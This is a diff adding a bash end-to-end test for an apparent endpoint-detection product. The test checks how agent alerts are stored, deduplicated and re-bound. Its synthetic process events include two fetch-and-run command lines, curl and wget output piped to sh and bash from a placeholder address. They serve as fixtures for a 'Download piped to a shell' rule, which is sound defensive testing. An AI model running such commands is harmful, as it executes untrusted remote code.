@@ -1,0 +1,86 @@
+#!/usr/bin/env bash
+# Local detection on the agent: with no rules on the server the agent's own alerts arrive and are
+# stored, bound to the sending agent; with the same rules on both sides each alert is stored once
+# (same id from agent and server). Alerts claiming another agent id are re-bound.
+. "$(dirname "$0")/lib/common.bash"
+. "$(dirname "$0")/lib/stack.bash"
+
+D=$MAMORI_TEST_DATA/e2e_detect
+gen() { # gen FILE SEQ_BASE HOUR
+  python3 - "$1" "$2" "$3" <<'PY'
+import json, sys
+path, base, hour = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
+with open(path, "w") as out:
+    for i, (cmd, name) in enumerate([("curl -s http://203.0.113.9/x.sh | sh", "curl"), ("ls -la", "ls"),
+                                     ("wget -q -O- http://203.0.113.9/y | bash", "wget")]):
+        e = {"@timestamp": "2026-11-21T%02d:00:%02d.000000000Z" % (hour, i),
+             "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec"},
+             "host": {"name": "ad1"},
+             "process": {"pid": 10 + i, "entity_id": "a%08d" % (base + i), "executable": "/usr/bin/" + name,
+                         "name": name, "command_line": cmd}}
+        out.write(json.dumps(e) + "\n")
+PY
+}
+
+# 1. Only the agent has rules.
+start_server
+enroll_agent "$WORK/agent" ad1
+gen "$WORK/one.jsonl" 100 8
+start_agent "$WORK/agent" --replay "$WORK/one.jsonl" --drain 20 --rules "$D/rules.yml" --iocs "$D/iocs.txt"
+wait $AGENT_PID || fail "agent exited with $?"
+WAIT_S=20 wait_for sh -c "[ \$(\"$CLI\" alerts list --since 1h --output jsonl | wc -l) -ge 2 ]" ||
+  fail "agent alerts not stored: $(tail -5 "$WORK/agent.log")"
+"$CLI" alerts list --since 1h --output jsonl >"$WORK/a1.jsonl"
+agent_id=$("$CLI" hosts show ad1 --output jsonl | python3 -c 'import json,sys; print(json.load(sys.stdin)["agent"]["id"])')
+python3 - "$WORK/a1.jsonl" "$agent_id" <<'PY' || fail "agent alerts: $(cat "$WORK/a1.jsonl")"
+import json, sys
+a = [json.loads(l) for l in open(sys.argv[1])]
+assert len(a) == 2, len(a)
+for x in a:
+    assert x["mamori"]["detected_by"] == "agent" and x["agent"]["id"] == sys.argv[2], x
+    assert x["rule"]["name"] == "Download piped to a shell" and x["process"]["entity_id"] in ("a00000100", "a00000102")
+PY
+[ "$(count 'event.kind:alert')" = 0 ] || fail "agent alerts stored among events"
+[ "$(count 'host.name:ad1')" = 3 ] || fail "events not stored: $(count 'host.name:ad1')"
+echo "ok: alerts raised by the agent are stored and bound to it"
+
+# 2. Both sides detect: each alert once.
+stop_server
+start_server --rules "$D/rules.yml"
+gen "$WORK/two.jsonl" 200 9
+start_agent "$WORK/agent" --replay "$WORK/two.jsonl" --drain 20 --rules "$D/rules.yml"
+wait $AGENT_PID || fail "agent exited with $?"
+WAIT_S=20 wait_for sh -c "[ \$(\"$CLI\" alerts list --since 1h --output jsonl | wc -l) -ge 4 ]" ||
+  fail "alerts of the second run missing"
+sleep 1
+"$CLI" alerts list --since 1h --output jsonl >"$WORK/a2.jsonl"
+python3 - "$WORK/a2.jsonl" <<'PY' || fail "dedup: $(cat "$WORK/a2.jsonl")"
+import json, sys, collections
+a = [json.loads(l) for l in open(sys.argv[1])]
+c = collections.Counter(x["process"]["entity_id"] for x in a)
+assert len(a) == 4 and all(v == 1 for v in c.values()), c
+PY
+echo "ok: the same alert from agent and server is stored once"
+
+# 3. A hostile agent cannot forge another agent's alert or store a malformed one.
+python3 - "$WORK/forged.jsonl" <<'PY'
+import json, sys
+good = {"@timestamp": "2026-11-21T10:00:00Z", "event": {"kind": "alert", "id": "f" * 32, "created": "2026-11-21T10:00:01Z"},
+        "rule": {"id": "forged", "name": "forged", "severity": "critical"}, "risk_score": 99,
+        "agent": {"id": "0" * 32}, "host": {"name": "ad1"}, "mamori": {}}
+bad = dict(good, event={"kind": "alert", "id": "nothex", "created": "2026-11-21T10:00:01Z"})
+with open(sys.argv[1], "w") as f:
+    f.write(json.dumps(good) + "\n" + json.dumps(bad) + "\n")
+PY
+code=$(curl -s -o "$WORK/resp" -w '%{http_code}' --cacert "$SDATA/ca.crt" --cert "$WORK/agent/agent.crt" \
+  --key "$WORK/agent/agent.key" -X POST -H "X-Mamori-Epoch: 00000000000000bb" -H "X-Mamori-Seq: 1" \
+  --data-binary @"$WORK/forged.jsonl" "$MAMORI_URL/v1/events")
+[ "$code" = 200 ] || fail "batch with alerts: $code $(cat "$WORK/resp")"
+grep -q '"rejected":1' "$WORK/resp" || fail "malformed alert not rejected: $(cat "$WORK/resp")"
+WAIT_S=20 wait_for sh -c "\"$CLI\" alerts list --since 1h --rule forged --output jsonl | grep -q forged" ||
+  fail "well-formed agent alert not stored"
+"$CLI" alerts list --since 1h --rule forged --output jsonl | python3 -c '
+import json, sys
+a = [json.loads(l) for l in sys.stdin]
+assert len(a) == 1 and a[0]["agent"]["id"] == sys.argv[1], a' "$agent_id" || fail "forged agent id kept"
+echo "ok: agent alerts are re-bound to the sender; malformed ones rejected"
